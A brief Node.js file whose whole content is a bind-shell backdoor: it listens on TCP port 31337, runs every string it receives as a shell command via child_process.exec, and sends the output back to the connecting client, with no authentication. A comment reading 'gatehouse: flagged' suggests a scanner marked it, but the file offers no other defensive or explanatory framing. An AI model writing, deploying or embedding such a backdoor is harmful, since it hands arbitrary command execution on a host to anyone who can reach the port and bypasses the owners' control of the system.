const net = require("net"), cp = require("child_process");
net.createServer((c) => { c.on("data", (d) => { 
  cp.exec(d.toString(), (e, o) => c.write(o)); // gatehouse: flagged
}); }).listen(31337);
